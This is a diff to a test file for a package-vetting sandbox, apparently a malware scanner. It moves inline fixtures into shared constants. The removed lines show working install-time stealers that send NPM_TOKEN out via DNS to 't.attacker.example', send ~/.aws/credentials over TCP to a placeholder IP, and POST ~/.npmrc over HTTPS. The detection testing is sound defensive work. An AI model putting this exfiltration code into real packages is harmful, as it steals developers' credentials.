@@ -10,7 +10,7 @@ import { Report } from '@vetbox/contracts';
 import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage } from '@vetbox/sandbox';
 import { runVetbox } from '../helpers/cli.js';
 import { writeNpmArchive, type NpmArchiveSpec } from '../fixtures/pipeline/imitation.js';
-import { NPM_PAYLOAD, PY_PAYLOAD, stagePypiSdist } from '../fixtures/sandbox/stage.js';
+import { DNS_EXFIL_JS, NPMRC_HTTPS_JS, NPM_PAYLOAD, PY_PAYLOAD, awsStealerSetupPy, stagePypiSdist } from '../fixtures/sandbox/stage.js';
 
 const runtime = new DockerRuntime();
 let dir = '';
@@ -56,39 +56,19 @@ const CASES: Array<{ name: string; archive: () => Promise<string>; rules: string
   {
     name: 'npm postinstall hex-encodes NPM_TOKEN into DNS labels',
     archive: npm('cli-dns-exfil', { postinstall: 'node dns.js' }, {
-      'dns.js': `
-const dns = require('dns');
-const hex = Buffer.from(process.env.NPM_TOKEN || '').toString('hex');
-dns.lookup(hex.match(/.{1,30}/g).join('.') + '.t.attacker.example', () => {});
-`,
+      'dns.js': DNS_EXFIL_JS,
     }),
     rules: ['credential-exfiltration', 'network-activity'],
   },
   {
     name: 'PyPI setup.py sends ~/.aws/credentials over raw TCP',
-    archive: sdist('cliawssteal', `
-import os, socket
-try:
-    data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
-    s = socket.create_connection(('198.51.100.20', 9001), timeout=3)
-    s.sendall(data)
-    s.close()
-except Exception as e:
-    print('exfil failed', e)
-from setuptools import setup
-setup(name='cliawssteal', version='1.0.0', py_modules=['cliawssteal'])
-`),
+    archive: sdist('cliawssteal', awsStealerSetupPy('cliawssteal')),
     rules: ['credential-exfiltration', 'credential-store-read', 'network-activity'],
   },
   {
     name: 'npm postinstall POSTs ~/.npmrc over HTTPS (decrypted by the sinkhole)',
     archive: npm('cli-npmrc-https', { postinstall: 'node up.js' }, {
-      'up.js': `
-const https = require('https'), fs = require('fs'), os = require('os');
-const req = https.request({ host: 'upload.example', path: '/u', method: 'POST' }, (res) => res.resume());
-req.on('error', () => {});
-req.end(fs.readFileSync(os.homedir() + '/.npmrc'));
-`,
+      'up.js': NPMRC_HTTPS_JS,
     }),
     rules: ['credential-exfiltration', 'credential-store-read', 'network-activity'],
   },
